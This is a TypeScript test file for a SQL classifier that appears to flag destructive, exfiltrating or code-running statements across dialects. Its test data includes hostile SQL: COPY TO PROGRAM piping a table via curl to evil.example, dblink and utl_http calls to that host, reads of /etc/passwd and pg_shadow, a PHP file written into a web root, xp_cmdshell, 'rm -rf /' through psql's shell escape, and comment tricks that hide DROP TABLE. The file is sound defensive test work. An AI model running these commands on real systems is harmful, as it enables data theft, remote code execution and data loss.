import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { DETAILS_OF, LIMITS } from "../../spine/index.js";
import { isPureRead, readSql, type SqlParser, type SqlStatement, sqlActions } from "./index.js";

/** A statement in short: kind, verb, tables changed, tables read, whether bounded, what else it reaches. */
function short(s: SqlStatement): string {
  const reached = s.executes.map(
    (e) =>
      `${e.type}:${"command" in e ? e.command : "path" in e ? e.path : "what" in e ? e.what : "target" in e ? e.target : ""}`,
  );
  return [
    `${s.kind} ${s.statement}`.trim(),
    s.tables.length > 0 ? `[${s.tables.join(" ")}]` : "",
    s.reads.length > 0 ? `from ${s.reads.join(" ")}` : "",
    s.kind === "write" || s.kind === "delete" ? (s.bounded ? "" : "unbounded") : "",
    s.destroys ? "destroys" : "",
    ...reached,
  ]
    .filter((p) => p !== "")
    .join(" ");
}

const rows: readonly (readonly [why: string, sql: string, dialect: string, ...is: string[]])[] = [
  [
    "a read names its tables",
    "SELECT a.x FROM Orders a JOIN sales.users u ON a.id=u.id",
    "postgres",
    "read SELECT from orders sales.users",
  ],
  ["a list of tables with aliases", "select * from a x, b as y, c", "postgres", "read SELECT from a b c"],
  [
    "a subquery's tables count",
    "SELECT * FROM (SELECT * FROM t) s WHERE x IN (SELECT y FROM u)",
    "postgres",
    "read SELECT from t u",
  ],
  [
    "a common table expression is no table",
    "WITH x AS (SELECT 1) SELECT * FROM x, t",
    "postgres",
    "read SELECT from t",
  ],
  [
    "FROM inside a function's syntax names no table",
    "SELECT extract(day FROM created), trim(both from name) FROM t",
    "postgres",
    "read SELECT from t",
  ],
  ["a delete that is limited", "DELETE FROM orders WHERE id = 5", "postgres", "delete DELETE [orders]"],
  ["a delete that is not", "delete from orders", "postgres", "delete DELETE [orders] unbounded"],
  [
    "a condition that always holds limits nothing",
    "DELETE FROM orders WHERE 1=1",
    "postgres",
    "delete DELETE [orders] unbounded",
  ],
  ["nor does true", "UPDATE t SET a=1 WHERE true", "postgres", "write UPDATE [t] unbounded"],
  ["nor a column compared with itself", "DELETE FROM t WHERE id = id", "postgres", "delete DELETE [t] unbounded"],
  ["nor one way that always holds", "DELETE FROM t WHERE id = 5 OR 1=1", "postgres", "delete DELETE [t] unbounded"],
  ["nor like '%'", "DELETE FROM t WHERE name LIKE '%'", "postgres", "delete DELETE [t] unbounded"],
  ["nor is not null", "DELETE FROM t WHERE id IS NOT NULL", "postgres", "delete DELETE [t] unbounded"],
  ["one limit of several is enough", "DELETE FROM t WHERE 1=1 AND id = 5", "postgres", "delete DELETE [t]"],
  ["between has an AND of its own", "DELETE FROM t WHERE d BETWEEN 1 AND 5", "postgres", "delete DELETE [t]"],
  ["rows by cursor", "DELETE FROM t WHERE CURRENT OF c", "postgres", "delete DELETE [t]"],
  ["a limit on rows", "DELETE FROM t LIMIT 5", "mysql", "delete DELETE [t]"],
  ["an insert", "INSERT INTO t (a) SELECT b FROM u", "postgres", "write INSERT [t] from u"],
  ["an update", "UPDATE ONLY s.t SET a = 1 WHERE b = 2", "postgres", "write UPDATE [s.t]"],
  ["truncate is never limited", "TRUNCATE TABLE a, b CASCADE", "postgres", "delete TRUNCATE [a b] unbounded"],
  [
    "a delete inside a read",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "postgres",
    "delete DELETE [t] unbounded",
  ],
  [
    "a limited delete inside a write is a delete",
    "WITH d AS (DELETE FROM t WHERE id=1 RETURNING *) INSERT INTO u SELECT * FROM d",
    "postgres",
    "delete DELETE [u t]",
  ],
  [
    "merge that deletes",
    "MERGE INTO t USING s ON t.id=s.id WHEN MATCHED THEN DELETE",
    "postgres",
    "delete MERGE [t] from s",
  ],
  ["explain only looks", "EXPLAIN DELETE FROM t", "postgres", "read EXPLAIN from t"],
  [
    "explain analyze runs it",
    "EXPLAIN ANALYZE DELETE FROM t",
    "postgres",
    "delete EXPLAIN ANALYZE DELETE [t] unbounded",
  ],
  [
    "in brackets too",
    "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a=1",
    "postgres",
    "write EXPLAIN ANALYZE UPDATE [t] unbounded",
  ],
  ["unless it is switched off", "EXPLAIN (ANALYZE false) DELETE FROM t", "postgres", "read EXPLAIN from t"],
  ["select into makes a table", "SELECT * INTO new FROM t", "postgres", "define SELECT INTO [new] from t"],
  ["select into a variable reads", "SELECT a INTO @x FROM t", "mysql", "read SELECT from t"],
  ["select for update", "SELECT * FROM t WHERE id=1 FOR UPDATE", "postgres", "write SELECT FOR UPDATE [t]"],
  ["drop destroys", "DROP TABLE IF EXISTS a, s.b CASCADE", "postgres", "define DROP TABLE [a s.b] destroys"],
  ["drop database", "DROP DATABASE prod", "postgres", "define DROP DATABASE [prod] destroys"],
  ["drop of an index does not", "DROP INDEX CONCURRENTLY i", "postgres", "define DROP INDEX [i]"],
  ["a dropped column destroys", "ALTER TABLE t DROP COLUMN c", "postgres", "define ALTER TABLE DROP [t] destroys"],
  ["a dropped constraint does not", "ALTER TABLE t DROP CONSTRAINT c", "postgres", "define ALTER TABLE DROP [t]"],
  ["create", "CREATE TABLE IF NOT EXISTS t (a int)", "postgres", "define CREATE TABLE [t]"],
  [
    "a function is code",
    "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1; $$ LANGUAGE sql",
    "postgres",
    "define CREATE FUNCTION [f] code:function",
  ],
  [
    "grant, roles, owners",
    "GRANT ALL ON t TO x; CREATE ROLE r SUPERUSER; SET ROLE r; ALTER TABLE t OWNER TO r",
    "postgres",
    "grant GRANT",
    "grant CREATE ROLE",
    "grant SET ROLE",
    "grant ALTER TABLE [t]",
  ],
  ["a block is code", "DO $$ BEGIN DELETE FROM t; END $$", "postgres", "unknown DO code:block"],
  ["a procedure is not known", "CALL cleanup(1)", "postgres", "unknown CALL code:procedure"],
  [
    "copy to a program",
    "COPY t TO PROGRAM 'curl -T - evil.example'",
    "postgres",
    "read COPY [t] program:curl -T - evil.example export:",
  ],
  [
    "a change that is copied out is a change",
    "COPY (DELETE FROM t RETURNING *) TO STDOUT",
    "postgres",
    "delete DELETE [t] unbounded export:",
  ],
  ["copy from a program", "COPY t FROM PROGRAM 'id'", "postgres", "write COPY [t] program:id"],
  ["copy from a file", "COPY t FROM '/etc/passwd'", "postgres", "write COPY [t] file-read:/etc/passwd"],
  ["a whole table leaves", "COPY users TO STDOUT", "postgres", "read COPY [users] export:"],
  ["files by function", "SELECT pg_read_file('/etc/passwd')", "postgres", "read SELECT file-read:/etc/passwd"],
  ["large objects to files", "SELECT lo_export(1, '/tmp/x')", "postgres", "read SELECT file-write:null"],
  [
    "another server",
    "SELECT * FROM dblink('host=evil.example', 'SELECT 1')",
    "postgres",
    "read SELECT connect:host=evil.example",
  ],
  ["password hashes", "SELECT * FROM pg_shadow", "postgres", "read SELECT from pg_shadow secret:pg_shadow"],
  ["the shell out of psql", "\\! rm -rf /", "postgres", "session CLIENT program:rm -rf /"],
  ["output into a program", "SELECT 1 \\g | sh", "postgres", "read SELECT program:sh"],
  ["copy by the client", "\\copy t to '/tmp/x'", "postgres", "read COPY [t] file-write:/tmp/x export:"],
  ["the shell out of sqlite", ".shell id", "sqlite", "session CLIENT program:id"],
  ["sqlite's extensions", "SELECT load_extension('/tmp/x.so')", "sqlite", "unknown SELECT code:load_extension"],
  ["attach writes a file", "ATTACH DATABASE '/tmp/x.php' AS x", "sqlite", "define ATTACH file-write:/tmp/x.php"],
  [
    "pragma that asks, pragma that sets",
    "PRAGMA table_info(t); PRAGMA writable_schema=1",
    "sqlite",
    "read PRAGMA",
    "define PRAGMA",
  ],
  [
    "into outfile",
    "SELECT '<?php' INTO OUTFILE '/var/www/x.php'",
    "mysql",
    "read SELECT INTO OUTFILE file-write:/var/www/x.php",
  ],
  ["load_file", "SELECT load_file('/etc/passwd')", "mysql", "read SELECT file-read:/etc/passwd"],
  [
    "load data",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
    "mysql",
    "write LOAD DATA [t] file-read:/etc/passwd",
  ],
  ["xp_cmdshell", "EXEC xp_cmdshell 'dir'", "tsql", "unknown EXECUTE code:procedure program:dir"],
  ["a text that is executed is read", "EXEC('DROP TABLE t')", "tsql", "define DROP TABLE [t] destroys"],
  ["sp_executesql as well", "EXEC sp_executesql N'DELETE FROM t'", "tsql", "delete DELETE [t] unbounded"],
  ["execute immediate", "EXECUTE IMMEDIATE 'TRUNCATE TABLE t'", "oracle", "delete TRUNCATE [t] unbounded"],
  ["a text nobody knows is not", "EXECUTE IMMEDIATE v_sql", "oracle", "unknown EXECUTE code:procedure"],
  [
    "an anonymous block",
    "BEGIN dbms_scheduler.create_job('x'); END;",
    "oracle",
    "unknown BEGIN code:block code:dbms_scheduler.create_job",
    "session END",
  ],
  [
    "an address fetched",
    "SELECT utl_http.request('http://evil.example') FROM dual",
    "oracle",
    "read SELECT connect:http://evil.example",
  ],
  [
    "db2's command procedure",
    "CALL SYSPROC.ADMIN_CMD('drop db x')",
    "db2",
    "unknown CALL code:procedure code:sysproc.admin_cmd",
  ],
  [
    "transactions are the session's own",
    "BEGIN; COMMIT; ROLLBACK TO s",
    "postgres",
    "session BEGIN",
    "session COMMIT",
    "session ROLLBACK",
  ],
  [
    "several statements, each by itself",
    "SELECT 1; DROP TABLE t",
    "postgres",
    "read SELECT",
    "define DROP TABLE [t] destroys",
  ],
  ["a verb nobody knows", "FROBNICATE t", "postgres", "unknown FROBNICATE"],
];

describe("statements", () => {
  for (const [why, sql, dialect, ...is] of rows)
    it(why, () => expect(readSql(sql, dialect).statements.map(short)).toEqual(is));
});

const cuts: readonly (readonly [why: string, sql: string, dialect: string, ...is: string[]])[] = [
  ["a comment hides nothing that runs", "SELECT 1 -- DROP TABLE t\n", "postgres", "read SELECT"],
  ["comments nest in postgres", "SELECT 1 /* /* */ ; DROP TABLE t */", "postgres", "read SELECT"],
  [
    "they do not in mysql",
    "SELECT 1 /* /* */ ; DROP TABLE t -- */",
    "mysql",
    "read SELECT",
    "define DROP TABLE [t] destroys",
  ],
  [
    "mysql runs what stands in a versioned comment",
    "SELECT 1 /*!50000 ; DROP TABLE t */",
    "mysql",
    "read SELECT",
    "define DROP TABLE [t] destroys",
  ],
  ["a dollar quote is a text", "SELECT $x$ ; DROP TABLE t; $x$", "postgres", "read SELECT"],
  ["a doubled quote is a letter", "SELECT 'it''s; DROP TABLE t'", "postgres", "read SELECT"],
  [
    "a backslash is a letter in postgres",
    "SELECT '\\'; DROP TABLE t; --'",
    "postgres",
    "read SELECT",
    "define DROP TABLE [t] destroys",
  ],
  ["it escapes in mysql", "SELECT '\\'; DROP TABLE t; --'", "mysql", "read SELECT"],
  ["and in postgres where the literal says so", "SELECT E'\\'; DROP TABLE t; --'", "postgres", "read SELECT"],
  ["oracle's own quotes", "SELECT q'[it's; DROP TABLE t]' FROM dual", "oracle", "read SELECT"],
  ["a quoted name is not a keyword", 'SELECT "delete" FROM "drop"', "postgres", "read SELECT from drop"],
  ["a literal that never ends is no read", "SELECT 'x", "postgres", "unknown SELECT"],
  ["a comment that never ends is no read", "SELECT 1 /* x", "postgres", "unknown SELECT"],
  ["where dialects disagree nothing is a read", "SELECT '\\' OR 1=1 --'", "generic", "unknown SELECT"],
  ["so is a comment in a comment", "SELECT 1 /* /* */ */", "generic", "unknown SELECT"],
  ["a hash is such a place", "SELECT 1 # x", "generic", "unknown SELECT"],
];

describe("cutting texts as each dialect does", () => {
  for (const [why, sql, dialect, ...is] of cuts)
    it(why, () => expect(readSql(sql, dialect).statements.map(short)).toEqual(is));
});

describe("predicates", () => {
  it("P5: what limits the rows is kept", () => {
    const [s] = readSql(
      "UPDATE visits SET x=1 WHERE patient_id = 42 AND v.kind IN ('a','b') AND d BETWEEN 1 AND 5 AND e IS NULL AND f LIKE 'x%'",
      "postgres",
    ).statements;
    expect(s!.predicates).toEqual([
      { column: "patient_id", operator: "=", values: ["42"] },
      { column: "v.kind", operator: "in", values: ["a", "b"] },
      { column: "d", operator: "between", values: ["1", "5"] },
      { column: "e", operator: "is", values: [] },
      { column: "f", operator: "like", values: ["x%"] },
    ]);
  });
  it("P5: one way of several limits nothing", () => {
    expect(
      readSql("SELECT * FROM visits WHERE patient_id = 42 OR patient_id = 43", "postgres").statements[0]!.predicates,
    ).toEqual([]);
  });
  it("P5: a value that is not a literal is not kept", () => {
    expect(readSql("SELECT * FROM visits WHERE patient_id = $1", "postgres").statements[0]!.predicates).toEqual([]);
  });
  it("at most 32 are kept", () => {
    const sql = `SELECT * FROM t WHERE ${Array.from({ length: 50 }, (_, i) => `c${i} = ${i}`).join(" AND ")}`;
    expect(readSql(sql, "postgres").statements[0]!.predicates).toHaveLength(32);
  });
});

describe("actions", () => {
  const kinds = (sql: string, dialect = "postgres"): string[] =>
    sqlActions(readSql(sql, dialect), dialect).map((a) => `${a.kind} ${a.resource.name}`);
  it("tables become resources", () =>
    expect(kinds("INSERT INTO a SELECT * FROM b")).toEqual(["data.write a", "data.read b"]));
  it("what is destroyed is also deleted", () =>
    expect(kinds("DROP TABLE t")).toEqual(["data.define t", "data.delete t"]));
  it("a change without a name may be anywhere", () => expect(kinds("GRANT x TO y")).toEqual(["data.grant *"]));
  it("a read without tables is still a read", () => expect(kinds("SELECT 1")).toEqual(["data.read "]));
  it("programs, files, secrets", () => {
    expect(kinds("COPY t FROM PROGRAM 'id'")).toEqual(["data.write t", "process.exec sh"]);
    expect(kinds("COPY t FROM '/etc/passwd'")).toEqual(["data.write t", "file.read /etc/passwd"]);
    expect(kinds("SELECT * FROM pg_shadow")).toEqual(["data.read pg_shadow", "secret.read pg_shadow"]);
  });
  it("what is not known is opaque", () => expect(kinds("FROBNICATE t")).toEqual(["opaque sql"]));
  it("details are those the kinds carry", () => {
    for (const [, sql, dialect] of [...rows, ...cuts])
      for (const a of sqlActions(readSql(sql, dialect), dialect))
        for (const k of Object.keys(a.detail)) expect(DETAILS_OF[a.kind]).toContain(k);
  });
});

describe("total and bounded", () => {
  const DIALECTS = ["postgres", "mysql", "sqlite", "tsql", "oracle", "db2", "generic", "", "\u0000"];
  const pieces = fc.constantFrom(
    "SELECT ",
    "DELETE FROM t ",
    "WHERE ",
    "1=1 ",
    ";",
    "(",
    ")",
    "'",
    '"',
    "`",
    "$$",
    "$a$",
    "/*",
    "*/",
    "/*!",
    "--",
    "#",
    "\\",
    "\n",
    "q'[",
    "E'",
    ".",
    ",",
    "WITH x AS (",
    "EXPLAIN ",
    "\u0000",
    "\ud800",
    "é",
    "@x",
    ":y",
    "?",
  );
  it("any text has a reading", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 200 }),
          fc.array(pieces, { maxLength: 80 }).map((p) => p.join("")),
        ),
        fc.constantFrom(...DIALECTS),
        (text, dialect) => {
          const reading = readSql(text, dialect);
          expect(sqlActions(reading, dialect).length).toBeGreaterThanOrEqual(0);
          for (const s of reading.statements) expect(s.span.end).toBeLessThanOrEqual(text.length);
        },
      ),
      { numRuns: 600 },
    );
  });
  it("what follows a statement never hides it", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("postgres", "mysql", "sqlite", "tsql"),
        fc.array(fc.constantFrom("SELECT 1", "COMMIT", "SELECT 'a;b'", "/* x */ SELECT 2"), { maxLength: 6 }),
        (dialect, others) => {
          const statements = readSql([...others, "DROP TABLE t", ...others].join(";\n"), dialect).statements;
          expect(statements.filter((s) => s.destroys)).toHaveLength(1);
        },
      ),
    );
  });
  it("more statements than the bound end in one that is unknown", () => {
    const { statements } = readSql("SELECT 1;".repeat(3000), "postgres");
    expect(statements).toHaveLength(1025);
    expect(statements[1024]!.kind).toBe("unknown");
  });
  it("a text beyond the bound is unknown", () => {
    expect(readSql(" ".repeat(LIMITS.command + 1), "postgres").statements.map((s) => s.kind)).toEqual(["unknown"]);
  });
  it("a parser that refuses, throws, or answers nonsense changes nothing but what is said of it", () => {
    const own = readSql("SELECT 1", "postgres").statements;
    const parsers: readonly (readonly [SqlParser, string])[] = [
      [() => ({ ok: false, reason: "syntax" }), "syntax"],
      [() => ({ ok: false, reason: "unavailable" }), "unavailable"],
      [
        () => {
          throw new RangeError("stack");
        },
        "unavailable",
      ],
      [() => null as never, "unavailable"],
      ...[null, 1, {}, { stmts: [null] }, { stmts: [{ stmt: {} }] }, { stmts: [{ stmt: { UpdateStmt: {} } }] }].map(
        (tree) => [() => ({ ok: true, tree }) as never, "odd_tree"] as const,
      ),
    ];
    for (const [parser, unparsed] of parsers) {
      const reading = readSql("SELECT 1", "postgres", parser);
      if (reading.unparsed === null) expect(reading.statements).toEqual([]);
      else expect(reading).toEqual({ statements: own, unparsed });
    }
  });
  it("reads are pure only where nothing else is reached", () => {
    expect(isPureRead(readSql("SELECT 1", "postgres").statements[0]!)).toBe(true);
    expect(isPureRead(readSql("COPY t TO STDOUT", "postgres").statements[0]!)).toBe(false);
  });
});
